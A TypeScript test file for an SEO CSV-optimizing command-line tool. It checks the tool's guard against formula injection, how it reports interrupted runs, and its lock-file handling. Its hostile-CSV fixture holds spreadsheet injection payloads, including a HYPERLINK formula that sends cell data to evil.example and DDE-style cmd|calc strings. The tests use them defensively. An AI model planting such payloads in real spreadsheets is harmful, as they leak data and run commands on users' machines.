// Issue 17, optimize runs: formulas in what seo-ai writes (#3), rows a stopped run never reached
// (#18), and two runs on one output (#19). The built CLI against generated inputs and, for the LLM
// cases, the OpenAI-compatible server on 127.0.0.1.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { hostname } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startsLikeFormula } from '../../src/csv/formula.js';
import { readCsv } from '../../src/csv/read.js';
import { writeCsv } from '../../src/csv/write.js';
import { OUTPUT_COLUMNS } from '../../src/optimize/output.js';
import { changedFiles, fileStates, runMeasured, scratchDir, type MeasureOptions } from '../../src/testing/adversarial.js';
import { fakeModel } from '../../src/testing/fake-model.js';
import { startOpenAiServer, type OpenAiServer } from '../../src/testing/openai-server.js';

/** Hostile cells: every start OWASP lists (=, +, -, @, tab, CR), in titles, descriptions, H1s and keywords. */
function hostileCsv(rows: number): string {
  const starts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1 tabbed', '\r=1+1 carriage'];
  const body = Array.from({ length: rows }, (_, i) => [
    `https://shop.example/p${i}`,
    starts[i % starts.length]!,
    starts[(i + 1) % starts.length]!,
    starts[(i + 2) % starts.length]!,
    `=kw${i}`,
    `Some words about product ${i}. `.repeat(20),
  ]);
  return writeCsv({ delimiter: ',', newline: '\n', bom: false }, ['url', 'title', 'meta_description', 'h1', 'keywords', 'content'], body);
}

describe('adversarial: optimize output', () => {
  it('#3: no cell seo-ai adds to *.optimized.csv starts like a formula; the user\'s own cells stay byte-exact; apply refuses a formula', async () => {
    const dir = scratchDir('optrun-formula');
    const input = path.join(dir, 'in.csv');
    writeFileSync(input, hostileCsv(60));
    const inputs = fileStates(dir);
    const r = await runMeasured(['optimize', '--csv', 'in.csv', '--offline'], { cwd: dir, killAfterMs: 30_000, heapMb: 512 });
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(0);
    expect(r.ms).toBeLessThan(30_000);
    expect(r.maxRssMb).toBeLessThan(1500);
    expect(changedFiles(inputs, fileStates(dir))).toEqual([]);

    const original = readCsv(readFileSync(input));
    const out = readCsv(readFileSync(path.join(dir, 'in.optimized.csv')));
    expect(out.rows).toHaveLength(60);
    const added = OUTPUT_COLUMNS.map((c) => out.header.indexOf(c));
    expect(added.every((i) => i >= original.header.length)).toBe(true);
    let newTitles = 0;
    out.rows.forEach((row, i) => {
      // The user's cells, exactly as they were: formulas included (it is their file).
      expect(row.fields.slice(0, original.header.length)).toEqual(original.rows[i]!.fields);
      for (const at of added) expect(startsLikeFormula(row.fields[at]!), `${out.header[at]} of row ${i + 2}: ${JSON.stringify(row.fields[at])}`).toBe(false);
      if (row.fields[out.header.indexOf('new_title')] !== '') newTitles++;
    });
    // The break: the keyword "=kw0" put in front of a title gave "=kw0 – =HYPERLINK(…)", unguarded.
    expect(newTitles).toBeGreaterThanOrEqual(5);
    expect(out.rows[0]!.fields[out.header.indexOf('new_title')]).toMatch(/^'=kw0 /);

    // The review never approves a formula by default; approved by hand, apply refuses it and writes nothing.
    const reviewFile = path.join(dir, 'in.review.csv');
    const review = readFileSync(reviewFile, 'utf8');
    expect(review).not.toMatch(/,yes\r\n/);
    expect(review).toContain('which a spreadsheet runs as a formula: not approved');
    writeFileSync(reviewFile, review.replace(/,no\r\n/, ',yes\r\n'));
    const before = fileStates(dir);
    const applied = await runMeasured(['apply', 'in.review.csv', '--to', 'in.csv'], { cwd: dir, killAfterMs: 30_000 });
    expect(applied.code).toBe(2);
    expect(applied.stderr).toContain(`in.review.csv:2: https://shop.example/p0 (title): after starts with "=" and calls a function or a link, which a spreadsheet runs as a formula: remove the leading character, or set approve to no`);
    expect(changedFiles(before, fileStates(dir))).toEqual([]);
  });
});

const servers: OpenAiServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((x) => x.close()));
});

/** The local OpenAI-compatible server, answering like a model after `delayMs`. */
async function slowServer(delayMs: number): Promise<OpenAiServer> {
  const server = await startOpenAiServer({ reply: (req) => ({ delayMs, then: fakeModel(req) }) });
  servers.push(server);
  return server;
}

/** 60 rows whose titles and descriptions all fail (too short): every one is work for the run. */
function shopCsv(rows = 60): string {
  const body = Array.from({ length: rows }, (_, i) => [
    `https://shop.example/tent-${i}`,
    `Tent ${i}`,
    'Short.',
    `Ridge tent model ${i}`,
    `The ridge tent model ${i} is a two person tent for windy ridges. It packs small and pitches fast in the rain. `.repeat(4),
  ]);
  return writeCsv({ delimiter: ',', newline: '\n', bom: false }, ['url', 'title', 'meta_description', 'h1', 'content'], body);
}

function optimizeLlm(dir: string, server: OpenAiServer, args: string[], options: MeasureOptions = {}) {
  return runMeasured(['optimize', '--csv', 'shop.csv', '--llm-url', server.baseURL, '--concurrency', '4', '--fields', 'title,meta', ...args], {
    cwd: dir,
    env: { OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: '' },
    killAfterMs: 30_000,
    heapMb: 512,
    ...options,
  });
}

const LOCK = 'shop.optimized.csv.checkpoint.jsonl.lock';

/** The status column of the optimized CSV, counted. */
function statuses(dir: string): Record<string, number> {
  const out = readCsv(readFileSync(path.join(dir, 'shop.optimized.csv')));
  const at = out.header.indexOf('status');
  const counts: Record<string, number> = {};
  for (const row of out.rows) counts[row.fields[at]!] = (counts[row.fields[at]!] ?? 0) + 1;
  return counts;
}

/** What every output says of a run stopped for `why` with `left` rows not reached. */
function expectNotProcessed(dir: string, stderr: string, why: string): void {
  const counts = statuses(dir);
  const left = counts.not_processed ?? 0;
  expect(left).toBeGreaterThan(0);
  // The break: rows the run never reached were marked unchanged. Every row here fails its rules.
  expect(counts.unchanged ?? 0).toBe(0);
  expect(Object.values(counts).reduce((a, b) => a + b, 0)).toBe(60);
  expect(stderr).toMatch(new RegExp(`^60 rows: \\d+ ok, 0 unchanged, \\d+ need review, 0 failed, ${left} not processed; `, 'm'));
  expect(stderr).toContain(`note: stopped early: ${why}; ${left} rows not processed, keeping their original values: run the same command again to resume\n`);
  const md = readFileSync(path.join(dir, 'shop.optimized.md'), 'utf8');
  expect(md).toContain(`| not processed | ${left} (the run stopped before them; listed below; the same command again resumes) |`);
  expect(md).toContain(`## Rows not processed\n\nThe run stopped (${why}) before finishing these rows`);
  const html = readFileSync(path.join(dir, 'shop.optimized.html'), 'utf8');
  expect(html).toContain(`not processed (${left})`);
  expect(html).toContain(`not processed: ${why}`);
}

describe('adversarial: a run that stops', () => {
  it('#18: --timeout: rows the run never reached are not_processed in the CSV, the reports and the summary, and the note says why', async () => {
    const server = await slowServer(400);
    const dir = scratchDir('optrun-timeout');
    writeFileSync(path.join(dir, 'shop.csv'), shopCsv());
    const r = await optimizeLlm(dir, server, ['--timeout', '2']);
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(2);
    expect(r.killed).toBe(false);
    expect(r.ms).toBeLessThan(20_000);
    expectNotProcessed(dir, r.stderr, '--timeout 2 s reached');
    expect(existsSync(path.join(dir, LOCK))).toBe(false);
  });

  it('#18: Ctrl-C (SIGINT): exit 130, rows not reached are not_processed, the note says Ctrl-C', async () => {
    const server = await slowServer(400);
    const dir = scratchDir('optrun-sigint');
    writeFileSync(path.join(dir, 'shop.csv'), shopCsv());
    const r = await optimizeLlm(dir, server, [], {
      onSpawn: (child) => {
        const poll = setInterval(() => {
          if (server.requests.length >= 8) {
            clearInterval(poll);
            child.kill('SIGINT');
          }
        }, 20);
        child.on('exit', () => clearInterval(poll));
      },
    });
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(130);
    expect(r.ms).toBeLessThan(20_000);
    expectNotProcessed(dir, r.stderr, 'interrupted (Ctrl-C)');
    expect(existsSync(path.join(dir, LOCK))).toBe(false);
  });

  it('#18: --max-cost: rows not reached are not_processed, the note names the budget', async () => {
    const server = await slowServer(0);
    const dir = scratchDir('optrun-cost');
    writeFileSync(path.join(dir, 'shop.csv'), shopCsv());
    const r = await optimizeLlm(dir, server, ['--max-cost', '0.002']);
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(2);
    expect(r.ms).toBeLessThan(20_000);
    const why = /note: stopped early: (--max-cost \$0\.002 reached \([^)]*\));/.exec(r.stderr)?.[1];
    expect(why).toBeDefined();
    expectNotProcessed(dir, r.stderr, why!);
  });
});

describe('adversarial: two runs on one output', () => {
  it('#19: a second run on the same output exits 2 at once, naming the lock and its PID; the server sees one run\'s requests', async () => {
    const server = await slowServer(100);
    const dir = scratchDir('optrun-lock');
    writeFileSync(path.join(dir, 'shop.csv'), shopCsv(24));
    let second: Awaited<ReturnType<typeof optimizeLlm>> | undefined;
    let firstPid = 0;
    let secondEnded = Infinity;
    const first = await optimizeLlm(dir, server, [], {
      onSpawn: (child) => {
        firstPid = child.pid!;
        const poll = setInterval(() => {
          if (server.requests.length < 4) return;
          clearInterval(poll);
          // Its own key, so the server can tell its requests from the first run's.
          void optimizeLlm(dir, server, [], { env: { OPENAI_API_KEY: 'sk-second', OPENAI_BASE_URL: '' } }).then((r) => {
            second = r;
            secondEnded = performance.now();
          });
        }, 20);
        child.on('exit', () => clearInterval(poll));
      },
    });
    expect(first.stderr).not.toContain('internal error');
    expect(first.code).toBe(0);
    const firstEnded = performance.now();
    await expect.poll(() => second, { timeout: 10_000 }).toBeDefined();
    expect(second!.code).toBe(2);
    // At once: while the first was still running (not after waiting for it), in seconds at most.
    expect(secondEnded).toBeLessThan(firstEnded);
    expect(second!.ms).toBeLessThan(20_000);
    expect(second!.stderr).toMatch(
      new RegExp(
        `^seo-ai: shop\\.optimized\\.csv\\.checkpoint\\.jsonl is in use by another seo-ai optimize run \\(process ${firstPid} on ${hostname().replace(/[.]/g, '\\.')}, started [-\\dT:.Z]+; lock file .*${LOCK.replace(/\./g, '\\.')}\\): two runs on one output would pay for every request twice\\. Wait for that run to finish, or write elsewhere with --output; if no such run is going on, delete .*\\.lock\\n$`,
      ),
    );
    // The break: both runs sent every prompt, paying twice. Here the second sent nothing.
    const keys = server.requests.map((q) => q.headers.authorization);
    expect(keys.length).toBeGreaterThan(24);
    expect(new Set(keys)).toEqual(new Set(['Bearer sk-test']));
    expect(existsSync(path.join(dir, LOCK))).toBe(false);
    expect(statuses(dir).not_processed ?? 0).toBe(0);
  }, 60_000);

  it('#19: a stale lock (its PID is not running) is taken over with a note, and removed at the end', async () => {
    const server = await slowServer(0);
    const dir = scratchDir('optrun-stale');
    writeFileSync(path.join(dir, 'shop.csv'), shopCsv(6));
    // A PID that was alive a moment ago and is not any more: a run killed with kill -9.
    const dead = spawnSync(process.execPath, ['-e', '']).pid;
    writeFileSync(path.join(dir, LOCK), `${JSON.stringify({ pid: dead, host: hostname(), started: '2026-01-01T00:00:00.000Z' })}\n`);
    const r = await optimizeLlm(dir, server, []);
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`note: took over the lock ${path.join(dir, LOCK)} of process ${dead} (started 2026-01-01T00:00:00.000Z), which is no longer running\n`);
    expect(existsSync(path.join(dir, LOCK))).toBe(false);
    expect(server.requests.length).toBeGreaterThan(5);
  });
});
